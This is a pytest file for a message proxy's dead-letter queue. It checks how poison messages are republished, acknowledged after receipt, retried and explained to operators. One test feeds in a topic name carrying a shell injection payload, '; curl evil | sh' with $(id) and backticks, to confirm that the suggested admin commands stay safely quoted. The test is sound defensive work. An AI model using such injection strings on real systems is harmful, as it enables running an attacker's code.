"""Messages with too many attempts on the wire: what is published where, and the ack behind the receipt."""

from __future__ import annotations

import shlex

import pytest

from proxy.core import reposition
from proxy.core.explain import SlotState, explain_slot
from proxy.core.key_verdict import explained
from proxy.core.worker_health import Urgency
from proxy.errors import UpstreamError, UpstreamUnavailable
from proxy.net.broker.producer import GatewayProducer
from proxy.net.ports import UpstreamProducer
from proxy.net.subscription import dead_letters
from proxy.net.subscription.dead_letters import RECEIPT_S_MAX
from proxy.net.subscription.own_topic_advice import DEAD_LETTERS, OPENING, PARKING
from proxy.net.subscription.summary import subscription_summary, surroundings_of
from proxy.wire import pulsar_pb2 as pb
from proxy.wire.codecs import compress, opened_payload
from proxy.wire.metadata import build_tail, peek, verify_checksum
from tests.net.subscription_rig import SubscriptionRig, Worker
from tests.net.subscription_rig_broker import LEDGER, TOPIC, T, batch, single
from tests.net.test_subscription_join import out_of_order
from tests.net.test_subscription_keys import asking

GRAVE = TOPIC + "-s-DLQ"


def rig_of(attempts: int = 2, **settings: object) -> tuple[SubscriptionRig, Worker]:
    """A subscription whose messages have so many attempts, and its worker."""
    rig = SubscriptionRig(dead_letter_after=attempts, **settings)
    return rig, rig.worker("a", permits=50)


def refuse(worker: Worker, entry: int = 0, times: int = 2) -> None:
    """The worker gives back an entry, and acknowledges nothing."""
    for _ in range(times):
        found = next(message for message in worker.messages() if message.entry == entry)
        worker.redeliver(found)


def compressed(tail: bytes, compression: int) -> bytes:
    """The same batch, as a producer that compresses sends it."""
    metadata, _, start = peek(tail)
    metadata.compression, metadata.uncompressed_size = compression, len(tail) - start  # type: ignore[assignment]
    return build_tail(metadata, compress(compression, tail[start:]))


def receipt(rig: SubscriptionRig) -> None:
    """The broker has the oldest message that it was sent and has not confirmed."""
    link = rig.link
    sent = [command.send for command in link.log if command.type == T.SEND]
    link.log = [command for command in link.log if command.type != T.SEND]
    for command in sent:
        if command.producer_id in link.producers:
            link.producers[command.producer_id].stored(command.sequence_id)
    rig.clock.settle()


def named(producer: UpstreamProducer) -> str:
    """The name that the broker gave it, or took from it."""
    assert isinstance(producer, GatewayProducer)
    return producer.name


def properties(metadata: pb.MessageMetadata) -> dict[str, str]:
    """By name."""
    return {pair.key: pair.value for pair in metadata.properties}


def test_the_original_is_acknowledged_when_the_copy_has_its_receipt() -> None:
    """The copy has key, payload and properties of the original, and says where it came from as Java's client does."""
    rig, worker = rig_of()
    own = pb.KeyValue(key="own", value="v")
    rig.link.deliver((0, single("k", b"poison", properties=[own], event_time=5, schema_version=b"1")), (1, single("k")))
    refuse(worker)
    assert rig.brokers.others == rig.brokers.others_diverted == [GRAVE]
    (tail,) = rig.link.published
    (producer,) = rig.link.producers.values()
    metadata, _, start = peek(tail)
    assert verify_checksum(tail)
    assert (tail[start:], metadata.partition_key, metadata.event_time) == (b"poison", b"k", 5)
    assert (metadata.producer_name, metadata.schema_version) == (named(producer).encode(), b"")
    assert properties(metadata) == {
        "own": "v",
        "REAL_TOPIC": TOPIC,
        "REAL_SUBSCRIPTION": "s",
        "ORIGIN_MESSAGE_ID": f"{LEDGER}:0:-1",
        "ORIGIN_MESSAGE_IDY_TIME": f"{LEDGER}:0:-1",
    }
    worker.messages()
    rig.link.deliver((2, single("k")))
    assert worker.messages() == []
    assert rig.link.acked() == []
    receipt(rig)
    assert rig.link.acked() == [(LEDGER, 0)]
    assert worker.entries() == [2]


@pytest.mark.parametrize("compression", [pb.NONE, pb.ZSTD])
def test_a_message_of_a_batch_is_published_alone(compression: int) -> None:
    """With its own key and payload, compressed as its batch was; its neighbours stay."""
    rig, worker = rig_of(attempts=1, key_window=1)
    rig.link.deliver((0, compressed(batch([("k", b"good"), ("k", b"poison"), ("k", b"fine")]), compression)))
    seen = []
    while messages := worker.messages():
        (message,) = messages
        seen += message.payloads
        (worker.redeliver if message.payloads == [b"poison"] else worker.ack)(message)
        if rig.link.published and seen[-1] != b"fine":
            receipt(rig)
    assert seen == [b"good", b"poison", b"fine"]
    (tail,) = rig.link.published
    metadata, _, start = peek(tail)
    assert not metadata.HasField("num_messages_in_batch")
    assert metadata.partition_key == b"k"
    assert metadata.compression == compression
    assert opened_payload(tail, start, compression, metadata.uncompressed_size, 99) == b"poison"
    assert properties(metadata)["ORIGIN_MESSAGE_ID"] == f"{LEDGER}:0:-1:1"
    assert rig.link.acked()[-1] == (LEDGER, 0)


def test_while_the_topic_is_unavailable_the_key_waits_and_says_why() -> None:
    """Others go on; it is tried again, and nothing is lost."""
    rig, worker = rig_of()
    rig.brokers.others_error = UpstreamError("not authorized to produce", pb.AuthorizationError)
    rig.link.deliver((0, single("k")), (1, single("k")))
    refuse(worker)
    worker.messages()
    slot = rig.subscription.state.dispatcher.diversions.held
    (held,) = slot
    rig.link.deliver((3, single("other")))
    assert worker.entries() == [3]
    told = explain_slot(rig.subscription.state.dispatcher, held, rig.clock.now())
    assert told.state is SlotState.DEAD_LETTER
    assert "not authorized to produce" in told.unblocks
    rig.clock.advance(1)
    assert len(rig.brokers.others) > 2
    assert rig.link.acked() == []
    rig.brokers.others_error = None
    rig.clock.advance(3)
    receipt(rig)
    assert rig.link.acked() == [(LEDGER, 0)]
    assert rig.subscription.state.dispatcher.diversions.trouble == ""


def test_a_command_that_helps_is_one_word_after_the_other_whatever_the_topics_name() -> None:
    """A client chooses that, and an operator gives the command to a shell."""
    topic = "persistent://public/default/a; curl evil | sh #$(id)`id` '"
    for advices in (DEAD_LETTERS, PARKING, OPENING):
        for each in advices.values():
            _, command = each.of(topic, "orders billing")
            words = [] if command is None else shlex.split(command)
            assert command is None or {topic, "public/default", "billing"} & set(words), command


@pytest.mark.parametrize(
    ("code", "advice", "command"),
    [
        (pb.TopicTerminatedError, "delete it", f"pulsar-admin topics delete --force {GRAVE}"),
        (
            pb.AuthorizationError,
            "Permit",
            f"pulsar-admin topics grant-permission {GRAVE} --role ROLE --actions produce",
        ),
        (
            pb.ProducerBlockedQuotaExceededException,
            "raise the quota",
            "pulsar-admin namespaces get-backlog-quotas public/default",
        ),
        (pb.TopicNotFound, "create it", f"pulsar-admin topics create {GRAVE}"),
        (pb.ProducerBusy, "for itself alone", f"pulsar-admin topics stats {GRAVE}"),
        (pb.UnknownError, "Look whether it can be reached", None),
    ],
)
def test_what_to_do_depends_on_why_the_broker_gives_no_producer(code: int, advice: str, command: str | None) -> None:
    """The verdicts on the subscription and on the key say the same, with the topic and the broker's words."""
    rig, worker = rig_of()
    rig.link.refusals[T.PRODUCER] = code, "the broker's words"
    rig.link.deliver((0, single("k")), (1, single("k")))
    refuse(worker)
    dispatcher, around = rig.subscription.state.dispatcher, surroundings_of(rig.subscription)
    (slot,) = dispatcher.diversions.held
    verdict = explained(dispatcher, slot, rig.clock.now(), around).verdict
    assert verdict is not None
    assert (verdict.state, verdict.urgency, verdict.command) == ("dead_letter", Urgency.ACT, command)
    assert advice in verdict.advice
    told = f"1 hash slot waits for {GRAVE}, which does not take its messages: the broker's words. Nothing is lost."
    assert verdict.says == told
    statistics = subscription_summary(rig.subscription)
    assert statistics.dispatcher.dead_letter_waits == 1
    del rig.link.refusals[T.PRODUCER]
    rig.clock.advance(3)
    receipt(rig)
    assert rig.link.acked() == [(LEDGER, 0)]
    assert surroundings_of(rig.subscription).diversion_advice[1] is None


@pytest.mark.parametrize("how", ["lost", "refused", "silent"])
def test_what_had_no_receipt_is_published_again(how: str) -> None:
    """After a pause; by a new producer, unless the broker only refused the message."""
    rig, worker = rig_of()
    rig.link.deliver((0, single("k", b"poison")))
    refuse(worker)
    ((number, producer),) = rig.link.producers.items()
    if how == "lost":
        rig.link.lose()
        rig.brokers.new_link()
    elif how == "refused":
        producer.not_stored(0, UpstreamError("message too large", pb.NotAllowedError))
    else:
        rig.clock.advance(RECEIPT_S_MAX)
    name = named(producer)
    rig.clock.advance(1)
    assert (number in rig.link.producers) == (how == "refused")
    assert [named(each) for each in rig.link.producers.values()] == [name]  # nothing of the lost one is stored later
    assert rig.link.acked() == []
    receipt(rig)
    assert rig.link.acked() == [(LEDGER, 0)]
    assert len(rig.link.published) == (1 if how == "lost" else 2)


def test_what_has_no_receipt_at_the_end_is_the_brokers_again() -> None:
    """The last worker leaves: the producer is closed, and a late receipt acknowledges nothing."""
    rig, worker = rig_of()
    rig.link.deliver((0, single("k")))
    refuse(worker)
    (producer,) = rig.link.producers.values()
    worker.close()
    assert rig.count == 0
    assert rig.link.producers == {}
    producer.stored(0)
    rig.clock.settle()
    assert rig.link.acked() == []


def test_events_tell_of_dead_letters_once_a_turn() -> None:
    """Which, whence, and after how many attempts."""
    rig, worker = rig_of(attempts=1)
    ear = rig.subscriptions.events.listen(lambda: None)
    rig.link.deliver((0, single("k")), (1, single("j")))
    worker.redeliver(*worker.messages())
    receipt(rig)
    (event,) = [event for event in ear.take()[1] if event.kind == "dead_letters"]
    assert event.facts["messages_count"] == 2
    assert [told["message"] for told in event.facts["messages"]] == [f"{LEDGER}:0:-1", f"{LEDGER}:1:-1"]


def test_a_consumer_may_choose_the_number_where_the_operator_has_dead_letters() -> None:
    """The gateway publishes with its own rights: a client alone cannot make it do so."""
    rig = SubscriptionRig()
    worker = rig.subscribe("a", metadata=asking(dead_letter_after=3))
    code, text = worker.error()
    assert code == pb.NotAllowedError
    assert "ask its operator" in text
    rig = SubscriptionRig(key_policies=("orders s dead_letter_after=5",))
    worker = rig.worker("a", permits=9, metadata=asking(dead_letter_after=1))
    rig.link.deliver((0, single("k")))
    refuse(worker, times=1)
    assert len(rig.link.published) == 1


def test_without_order_no_number_of_attempts_can_be_asked_for() -> None:
    """As for the other policies of keys."""
    rig = SubscriptionRig(dead_letter_after=5)
    worker = rig.subscribe("a", keySharedMeta=out_of_order(), metadata=asking(dead_letter_after=1))
    assert worker.error()[0] == pb.NotAllowedError


def test_a_broker_that_went_away_is_no_receipt() -> None:
    """A producer that could not be made is none either."""
    rig, worker = rig_of()
    rig.brokers.others_error = UpstreamUnavailable("no broker")
    rig.link.deliver((0, single("k")))
    refuse(worker)
    rig.clock.advance(100)
    assert rig.link.acked() == []
    assert rig.link.published == []


def test_a_copy_that_the_broker_has_no_room_for_is_not_sent() -> None:
    """It would close the connection, each time: a producer may use up the room beyond the limit itself."""
    rig, worker = rig_of(attempts=1)
    sent = single("k", b"x" * (rig.link.max_message_bytes + (10 << 10) - 200))
    rig.link.deliver((0, sent), (1, single("other", b"1")))
    for message in worker.messages():
        worker.redeliver(message)
    assert [tail[peek(tail).payload_start :] for tail in rig.link.published] == [b"1"]
    assert "cannot be published" in rig.subscription.state.dispatcher.diversions.trouble
    assert rig.link.acked() == []


def test_a_chunk_that_is_awaited_behind_a_full_look_ahead_is_awaited_no_more() -> None:
    """It could never come: what waits for it is in its way."""
    settings = {"look_ahead_messages_per_worker": 5, "look_ahead_messages_per_subscription": 5}
    rig = SubscriptionRig(dead_letter_after=1, **settings)
    chunks = [single("k", b"c", uuid="u", num_chunks_from_msg=3, chunk_id=index) for index in range(3)]
    topic = [*chunks[:2], *(single("k", b"m") for _ in range(20)), chunks[2]]
    worker = rig.subscribe("a")
    worker.flow(50)
    rig.link.deliver(*enumerate(topic))
    assert len(worker.messages()) == len(topic)
    worker.redeliver(len(topic) - 1)
    worker.lose()
    worker = rig.subscribe("b")
    worker.flow(5)
    consumer = rig.subscription.consumers.first_ready()
    assert consumer is not None
    sent = 0
    while consumer.window.outstanding > 0:
        rig.link.deliver((sent, topic[sent]))
        sent += 1
        receipt(rig)
    assert sent < len(topic)
    receipt(rig)
    assert {0, 1} <= {entry for _, entry in rig.link.acked()}
    assert worker.messages()


def traced(count: int) -> bytes:
    """A compressed batch whose messages have 11 KB of properties each, and is small itself."""
    pieces = []
    for number in range(count):
        single_metadata = pb.SingleMessageMetadata(payload_size=1, partition_key=b"k", sequence_id=number)
        single_metadata.properties.add(key="trace", value="at line 117, in handle\n" * 500)
        encoded = single_metadata.SerializeToString()
        pieces += [len(encoded).to_bytes(4, "big"), encoded, b"%d" % number]
    metadata = pb.MessageMetadata(producer_name=b"shop", sequence_id=1, publish_time=1, partition_key=b"k")
    metadata.num_messages_in_batch = count
    return compressed(build_tail(metadata, b"".join(pieces)), pb.ZSTD)


def test_a_copy_may_be_far_larger_than_its_compressed_entry() -> None:
    """Its properties are compressed no more: it was refused at every try, and its key stood still for ever."""
    rig, worker = rig_of(attempts=1)
    entry = traced(2)
    assert len(entry) < 1_000
    rig.link.deliver((0, entry))
    worker.redeliver(*worker.messages())
    worker.redeliver(*worker.messages())
    assert all(len(tail) > 11_000 for tail in rig.link.published)
    assert not rig.subscription.state.dispatcher.diversions.trouble
    receipt(rig)
    for _ in range(3):
        worker.redeliver(*worker.messages())
        receipt(rig)
    assert len(rig.link.published) == 2
    assert (LEDGER, 0) in rig.link.acked()


def test_copies_on_their_way_are_bounded_in_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    """What they take is not counted as held, and may be a hundred times what is held; the others go after receipts."""
    monkeypatch.setattr(dead_letters, "BURST_BYTES_MAX", 30_000)
    rig, worker = rig_of(attempts=1)
    rig.link.deliver(*((entry, single(f"k{entry}", b"x" * 12_000)) for entry in range(8)))
    worker.redeliver(*worker.messages())
    counts = [len(rig.link.published)]
    while len(counts) < 3:
        receipt(rig)
        counts.append(len(rig.link.published))
    assert counts == [3, 6, 8]
    receipt(rig)
    assert {entry for _, entry in rig.link.acked()} == set(range(8))


def stored(rig: SubscriptionRig, *, but: bytes) -> list[bytes]:
    """The broker takes all that it was sent, but for one payload, which it refuses; what it was sent."""
    link = rig.link
    sends = [command.send for command in link.log if command.type == T.SEND]
    link.log = [command for command in link.log if command.type != T.SEND]
    payloads = [tail[peek(tail).payload_start :] for tail in link.published]
    link.published.clear()
    for send, payload in zip(sends, payloads, strict=True):
        producer = link.producers[send.producer_id]
        if payload == but:
            producer.not_stored(send.sequence_id, UpstreamError("too large for this topic", pb.NotAllowedError))
        else:
            producer.stored(send.sequence_id)
    rig.clock.settle()
    return payloads


def test_a_message_that_is_refused_for_ever_is_sent_alone_and_seldom() -> None:
    """Nothing behind it is sent again, nor waits; its own key waits, and says why; nothing is lost."""
    rig, worker = rig_of(attempts=1)
    rig.link.deliver((0, single("k", b"large")), *((n, single(f"k{n}", b"%d" % n)) for n in range(1, 40)))
    ear = rig.subscriptions.events.listen(lambda: None)
    worker.redeliver(*worker.messages())
    sent: list[bytes] = []
    for _ in range(600):
        sent += stored(rig, but=b"large")
        rig.clock.advance(1.0)
    assert sorted(sent) == sorted([b"%d" % n for n in range(1, 40)] + [b"large"] * sent.count(b"large"))
    longest_s = rig.subscription.state.settings.reconnect_backoff_max_ms / 1_000
    assert 5 < sent.count(b"large") <= 600 / longest_s + 20
    assert {entry for _, entry in rig.link.acked()} == set(range(1, 40))
    dispatcher = rig.subscription.state.dispatcher
    (slot,) = dispatcher.diversions.held
    assert "too large for this topic" in explain_slot(dispatcher, slot, rig.clock.now()).unblocks
    assert [event.kind for event in ear.take()[1] if event.kind == "dead_letters_wait"] == ["dead_letters_wait"]
    stored(rig, but=b"")
    rig.clock.advance(longest_s)
    stored(rig, but=b"")
    assert (LEDGER, 0) in rig.link.acked()
    assert dispatcher.diversions.trouble == ""
    assert not dispatcher.diversions.held


def test_when_the_topic_takes_one_again_all_that_it_refused_go() -> None:
    """Each waited for its own turn only as long as none was taken."""
    rig, worker = rig_of(attempts=1)
    rig.link.deliver(*((n, single(f"k{n}", b"same")) for n in range(30)))
    worker.redeliver(*worker.messages())
    assert len(stored(rig, but=b"same")) == 30
    tries = 0
    for _ in range(10):
        rig.clock.advance(5.0)
        tries += len(stored(rig, but=b"same"))
    assert 0 < tries < 20
    rig.clock.advance(rig.subscription.state.settings.reconnect_backoff_max_ms / 1_000)
    stored(rig, but=b"")
    stored(rig, but=b"")
    assert {entry for _, entry in rig.link.acked()} == set(range(30))


def test_a_message_at_which_the_producer_is_lost_each_time_does_not_hold_up_the_others() -> None:
    """A broker may close the producer over it: then one goes at a time, and what was lost alone waits apart."""
    rig, worker = rig_of(attempts=1)
    rig.link.deliver((0, single("k", b"fatal")), *((n, single(f"k{n}", b"%d" % n)) for n in range(1, 10)))
    worker.redeliver(*worker.messages())
    sent: list[bytes] = []
    for _ in range(200):
        link = rig.link
        payloads = [tail[peek(tail).payload_start :] for tail in link.published]
        if b"fatal" in payloads:
            sent += payloads
            link.published.clear()
            sends = [command.send for command in link.log if command.type == T.SEND]
            link.log = [command for command in link.log if command.type != T.SEND]
            link.producers.pop(sends[0].producer_id).closed_by_broker("the topic is fenced")
            rig.clock.settle()
        else:
            sent += stored(rig, but=b"")
        rig.clock.advance(1.0)
    assert {entry for _, entry in rig.link.acked()} == set(range(1, 10))
    assert max(sent.count(b"%d" % n) for n in range(1, 10)) <= 3
    assert sent.count(b"fatal") < 40


def test_what_was_refused_and_is_skipped_holds_up_nothing() -> None:
    """A seek forgets it, with all that waits behind it."""
    rig, worker = rig_of(attempts=1)
    rig.link.deliver((0, single("k", b"large")))
    worker.redeliver(*worker.messages())
    stored(rig, but=b"large")
    reposition.reset(rig.subscription.state.dispatcher, rig.clock.now())
    rig.clock.advance(100.0)
    assert stored(rig, but=b"large") == []
    letters = rig.subscription.dead_letters
    assert letters is not None
    assert not letters._refused
